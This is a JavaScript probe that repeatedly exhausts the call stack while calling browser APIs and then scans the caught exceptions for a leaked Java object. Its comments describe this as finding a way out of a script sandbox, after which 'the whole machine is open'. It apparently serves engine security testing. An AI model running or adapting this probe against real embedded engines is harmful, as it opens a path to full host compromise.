// Looks for an object of Java among all that it can catch where the stack ends, in a context that gives
// script all access to such objects. With one of those the whole machine is open.
(function (rounds) {
  const members = [
    () => performance.now(),
    () => crypto.getRandomValues(new Uint8Array(3)),
    () => localStorage.setItem('a', 'b'),
    () => navigator.locks,
    () => new BroadcastChannel('x').close(),
    () => new MessageChannel().port1.postMessage(1),
    () => new DOMException('m', 'n').stack,
    () => structuredClone({ a: 1 }),
    () => reportError(1),
  ];
  // what a way out would need has been done once before, so that nothing is done for the first time
  for (let i = 0; i < 50; i++) {
    try {
      null.x;
    } catch (e) {
      String(e.stack);
    }
  }
  for (const member of members) {
    member();
  }
  const caught = [];
  let count = 0;
  let retries = 0;
  let member;
  const keep = (e) => { caught[count++] = e; };
  function deep() {
    try {
      deep();
    } catch (e) {
      keep(e);
    } finally {
      if (retries < 60) {
        retries++;
        try {
          member();
        } catch (e) {
          keep(e);
        }
      }
    }
  }
  // frames of different sizes, so that the stack ends somewhere else each time
  const frames = [
    (d) => d(),
    (d) => [d()],
    (d) => -d(),
    (d) => `${d()}`,
    (d) => (d(), 1),
    (d) => ({ a: d() }),
    (d) => d() + 1 + 1,
    (d) => (d() ? 1 : 0) + 1,
  ];
  for (let round = 0; round < rounds; round++) {
    for (member of members) {
      for (const frame of frames) {
        count = 0;
        retries = 0;
        try {
          frame(() => deep());
        } catch (e) {
          keep(e);
        }
        for (let i = 0; i < count; i++) {
          const value = caught[i];
          if (typeof value === 'object' && value !== null && typeof value.getClass === 'function') {
            return `${value} by ${member}`;
          }
        }
      }
    }
  }
  return 'none';
})
